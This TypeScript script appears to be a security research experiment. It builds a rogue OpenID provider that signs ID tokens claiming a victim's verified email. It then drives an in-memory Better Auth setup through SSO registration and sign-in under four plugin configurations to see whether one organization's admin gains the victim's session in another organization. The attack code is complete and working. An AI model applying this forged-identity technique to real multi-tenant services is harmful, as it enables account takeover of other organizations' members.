/**
 * The hole that organizations' own identity providers can open: organization A registers a provider that it controls and lets
 * it assert the e-mail of a member of B. Does A's administrator then hold a session of that person, and does it open B?
 *
 * Asks Better Auth with its organization and SSO plugins, in process and in memory, as its documentation sets them up. The
 * same attack on Foyer stands in test/sso-attacks.test.ts.
 */
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { sso } from '@better-auth/sso'
import { betterAuth } from 'better-auth'
import { memoryAdapter } from 'better-auth/adapters/memory'
import { organization } from 'better-auth/plugins'
import { exportJWK, generateKeyPair, SignJWT } from 'jose'

const victim = { email: 'maya@b.example', password: 'a rather long sentence', name: 'Maya' }
const attacker = { email: 'eve@a.example', password: 'another long sentence', name: 'Eve' }

/** An OpenID provider that says of everybody that they are the victim. */
async function startEvilProvider(clientId: string) {
  const { publicKey, privateKey } = await generateKeyPair('RS256')
  const key = { ...(await exportJWK(publicKey)), kid: 'evil', alg: 'RS256', use: 'sig' }
  const server = createServer(async (request, response) => {
    const issuer = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const answer = (body: object) => {
      response.setHeader('content-type', 'application/json')
      response.end(JSON.stringify(body))
    }
    if (request.url === '/.well-known/openid-configuration')
      return answer({
        issuer,
        authorization_endpoint: `${issuer}/authorize`,
        token_endpoint: `${issuer}/token`,
        jwks_uri: `${issuer}/jwks`,
        response_types_supported: ['code'],
        subject_types_supported: ['public'],
        id_token_signing_alg_values_supported: ['RS256'],
        token_endpoint_auth_methods_supported: ['client_secret_basic'],
      })
    if (request.url === '/jwks') return answer({ keys: [key] })
    await readAll(request)
    const idToken = await new SignJWT({ email: victim.email, email_verified: true, name: 'Maya' })
      .setProtectedHeader({ alg: 'RS256', kid: 'evil' })
      .setIssuer(issuer)
      .setAudience(clientId)
      .setSubject('evil-subject')
      .setIssuedAt()
      .setExpirationTime('5m')
      .sign(privateKey)
    answer({ access_token: 'x', token_type: 'Bearer', expires_in: 300, id_token: idToken })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    issuer: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => server.close(),
  }
}

async function readAll(request: IncomingMessage) {
  for await (const _ of request);
}

interface Case {
  name: string
  options: Parameters<typeof sso>[0]
  /** A has proved the very domain that the victim's address is of. */
  provedDomain?: boolean
}

const cases: Case[] = [
  { name: 'as it comes', options: {} },
  { name: 'trustEmailVerified: true', options: { trustEmailVerified: true } },
  {
    name: 'trustEmailVerified and domainVerification, domain not proved',
    options: { trustEmailVerified: true, domainVerification: { enabled: true } },
  },
  {
    name: 'domainVerification, A has proved the domain of the address',
    options: { domainVerification: { enabled: true } },
    provedDomain: true,
  },
]

async function attack({ options, provedDomain }: Case) {
  const provider = await startEvilProvider('client')
  const baseURL = 'http://127.0.0.1:4999'
  const tables: Record<string, Record<string, unknown>[]> = {}
  for (const name of [
    'user',
    'session',
    'account',
    'verification',
    'organization',
    'member',
    'invitation',
    'ssoProvider',
  ])
    tables[name] = []
  const auth = betterAuth({
    baseURL,
    secret: 'only-for-an-experiment-on-loopback-0123456789',
    database: memoryAdapter(tables),
    telemetry: { enabled: false },
    logger: { disabled: true },
    trustedOrigins: [provider.issuer],
    emailAndPassword: { enabled: true },
    plugins: [organization(), sso(options)],
  })
  const call = browser(auth.handler, baseURL)
  const inB = call()
  await inB('POST', '/sign-up/email', victim)
  for (const user of tables.user ?? []) user.emailVerified = true
  await inB('POST', '/organization/create', { name: 'B', slug: 'b' })

  const inA = call()
  await inA('POST', '/sign-up/email', attacker)
  const a = await inA('POST', '/organization/create', { name: 'A', slug: 'a' })
  const registered = await inA('POST', '/sso/register', {
    providerId: 'evil',
    issuer: provider.issuer,
    domain: provedDomain ? 'b.example' : 'a.example',
    organizationId: a.body.id,
    oidcConfig: {
      clientId: 'client',
      clientSecret: 'secret',
      pkce: true,
      scopes: ['openid', 'email'],
    },
  })

  if (provedDomain) for (const row of tables.ssoProvider ?? []) row.domainVerified = true

  const stranger = call()
  const started = await stranger('POST', '/sign-in/sso', {
    providerId: 'evil',
    callbackURL: `${baseURL}/done`,
  })
  let after: Answer = started
  if (started.body.url) {
    const url = new URL(String(started.body.url))
    const back = new URL(String(url.searchParams.get('redirect_uri')))
    back.searchParams.set('code', 'any')
    back.searchParams.set('state', String(url.searchParams.get('state')))
    after = await stranger('GET', back.pathname.replace('/api/auth', '') + back.search)
  }
  const session = await stranger('GET', '/get-session')
  const organizations = await stranger('GET', '/organization/list')
  provider.close()
  const whose = (session.body.user as { email?: string } | undefined)?.email ?? null
  return {
    registered: registered.status,
    answer: after.location ?? `${after.status} ${JSON.stringify(after.body)}`.slice(0, 120),
    session: whose,
    organizations: Array.isArray(organizations.body)
      ? organizations.body.map((one: { name: string }) => one.name)
      : [],
  }
}

interface Answer {
  status: number
  location: string | null
  body: Record<string, unknown>
}

/** A browser with a jar of its own. */
const browser = (handler: (request: Request) => Promise<Response>, baseURL: string) => () => {
  const jar = new Map<string, string>()
  return async (method: string, path: string, body?: object): Promise<Answer> => {
    const response = await handler(
      new Request(`${baseURL}/api/auth${path}`, {
        method,
        headers: {
          origin: baseURL,
          ...(body && { 'content-type': 'application/json' }),
          cookie: [...jar].map(([name, value]) => `${name}=${value}`).join('; '),
        },
        body: body ? JSON.stringify(body) : null,
      }),
    )
    for (const line of response.headers.getSetCookie()) {
      const [pair = ''] = line.split(';')
      const at = pair.indexOf('=')
      jar.set(pair.slice(0, at), pair.slice(at + 1))
    }
    const text = await response.text()
    return {
      status: response.status,
      location: response.headers.get('location'),
      body: text.startsWith('{') || text.startsWith('[') ? JSON.parse(text) : {},
    }
  }
}

for (const one of cases) {
  const { registered, answer, session, organizations } = await attack(one)
  console.log(`${one.name}
  provider registered: ${registered}; answer: ${answer}
  session of: ${session ?? 'nobody'}; its organizations: ${organizations.join(', ') || 'none'}`)
}
